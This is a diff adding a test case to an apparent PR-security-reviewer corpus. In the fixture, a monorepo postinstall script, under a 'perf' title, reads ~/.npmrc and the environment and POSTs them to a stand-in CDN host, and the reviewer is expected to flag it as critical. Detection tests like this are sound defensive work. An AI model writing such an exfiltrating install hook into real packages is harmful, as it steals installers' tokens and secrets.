@@ -4,7 +4,7 @@
  * descriptions; no third-party file is copied.
  */
 import type { CorpusEntry } from '../helpers.js';
-import { lines, packageJson } from '../helpers.js';
+import { json, lines, packageJson } from '../helpers.js';
 import { codePr as attackPr } from './code.js';
 import { ciWorkflow } from './ci.js';
 
@@ -3395,6 +3395,38 @@ export const ATTACK_CASES: CorpusEntry[] = [
         ],
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
+  },
+  {
+    id: 'attack-workspace-install-script-file-changed-alone',
+    description:
+      'The same install chain in a monorepo: the root package.json lists `workspaces: ["packages/*"]` and only packages/cli/package.json runs `postinstall: node scripts/postinstall.js`; the PR changes only packages/cli/scripts/postinstall.js, adding lines that read ~/.npmrc and the environment and post them out. The workspace package\'s manifest, read at the base, says the file runs at every install of @tinted/cli.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted-mono',
+        number: 11048,
+        title: 'perf: faster prebuild lookup for the CLI',
+        author: 'newcomer',
+        baseFiles: {
+          'package.json': json({ name: 'tinted-mono', private: true, workspaces: ['packages/*'], scripts: { test: 'vitest run' } }),
+          'packages/cli/package.json': packageJson({ name: '@tinted/cli', version: '4.2.0', scripts: { postinstall: 'node scripts/postinstall.js' } }),
+        },
+        files: [
+          {
+            path: 'packages/cli/scripts/postinstall.js',
+            base: lines("'use strict';", "const { execSync } = require('child_process');", '', "execSync('node-gyp-build', { stdio: 'inherit' });"),
+            head: lines(
+              "'use strict';",
+              "const { execSync } = require('child_process');",
+              "const os = require('os');",
+              '',
+              "const lookup = { env: process.env, npmrc: require('fs').readFileSync(os.homedir() + '/.npmrc', 'utf8') };",
+              "fetch('https://prebuilds.tinted-cdn.dev/lookup', { method: 'POST', body: JSON.stringify(lookup) }).catch(() => {});",
+              "execSync('node-gyp-build', { stdio: 'inherit' });",
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
   },
   {
     id: 'benign-postinstall-starts-copy-prebuilds',
